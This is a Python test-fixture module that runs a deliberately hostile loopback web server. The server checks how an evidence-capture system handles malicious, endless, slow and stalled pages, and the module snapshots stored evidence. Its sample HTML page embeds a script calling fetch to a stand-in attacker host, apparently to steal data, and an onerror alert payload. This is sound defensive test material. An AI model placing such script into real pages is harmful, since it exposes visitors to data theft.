"""A hostile web server on loopback for the capture tests, and the state to compare
before and after a refusal."""

import contextlib
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from cases.evidence.storage import evidence_listing
from cases.models import Evidence, Finding

PAGE = (
    b"<!doctype html><html><head><title>Acme JV</title>"
    b"<script>document.title = 'pwned'; fetch('https://attacker.example/steal')</script>"
    b"<style>p { color: red }</style></head>"
    b"<body><p>Acme and Shenzhen Example Technology form a joint venture.</p>"
    b'<img src="http://127.0.0.1:1/tracker.gif" onerror="alert(1)"></body></html>'
)
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\ntrailer\n%%EOF\n"


class Hostile:
    """Pages by path: ("page", status, headers, body) or a function writing the answer
    itself (no length, a body that never ends, a slow one)."""

    def __init__(self):
        self.routes: dict[str, tuple | Callable] = {}
        self.hits: list[str] = []
        self.release = threading.Event()
        hostile = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.0"

            def do_GET(self):  # noqa: N802 - the http.server API
                hostile.hits.append(self.path)
                route = hostile.routes.get(self.path)
                if route is None:
                    route = (404, {"Content-Type": "text/plain"}, b"no such page")
                if callable(route):
                    route(self)
                    return
                status, headers, body = route
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def page(self, path: str, body: bytes, content_type: str = "text/html", status: int = 200):
        self.routes[path] = (status, {"Content-Type": content_type}, body)
        return self.url + path

    def redirect(self, path: str, to: str, status: int = 302):
        self.routes[path] = (status, {"Location": to}, b"")
        return self.url + path


@pytest.fixture
def hostile():
    server = Hostile()
    server.thread.start()
    yield server
    server.release.set()
    server.server.shutdown()
    server.server.server_close()


def endless(handler):
    """An HTML body with no length that never ends (until the client hangs up)."""
    handler.send_response(200)
    handler.send_header("Content-Type", "text/html")
    handler.end_headers()
    try:
        while True:
            handler.wfile.write(b"<p>" + b"x" * 65536 + b"</p>")
    except OSError:
        pass


def slow(release: threading.Event, *, body: bytes = PAGE):
    """Headers at once, the body when the test releases it (or after 30 s)."""

    def answer(handler):
        handler.send_response(200)
        handler.send_header("Content-Type", "text/html")
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.flush()
        release.wait(timeout=30)
        with contextlib.suppress(OSError):
            handler.wfile.write(body)

    return answer


def held(release: threading.Event, *, body: bytes = PAGE):
    """Nothing at all until released: the request waits for its answer."""

    def answer(handler):
        release.wait(timeout=30)
        handler.send_response(200)
        handler.send_header("Content-Type", "text/html")
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)

    return answer


def snapshot() -> dict:
    """What a refused capture or attachment may change: the rows and the stored files."""
    return {
        "evidence": sorted(
            Evidence.objects.values_list(
                "id", "state", "sha256", "warc", "text", "screenshot", "attachment"
            )
        ),
        "findings": sorted(Finding.objects.values_list("id", "review_state", "version")),
        "files": evidence_listing(),
    }
